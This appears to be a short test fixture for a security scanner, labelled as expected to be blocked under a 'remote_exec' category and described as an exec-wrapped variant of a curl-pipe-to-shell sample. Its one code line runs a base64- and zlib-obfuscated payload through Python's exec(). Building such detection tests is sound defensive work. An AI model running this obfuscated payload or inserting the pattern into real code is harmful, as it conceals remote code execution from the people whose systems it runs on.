# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/curl_pipe_sh.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwNzEEKwjAQBdB9TjHUjS6ctNaVZ+hC8AShiWQgzYT8KSJ4ePsO8E70lJZAgaJ+atEQUySsXZqRVFNCZidb026kcE7B+MLSdh7WvRe6vvFaKJu1h/e3ceaRp2nmu5cKC6UwMv2OZLj8AYLNIpU=')))
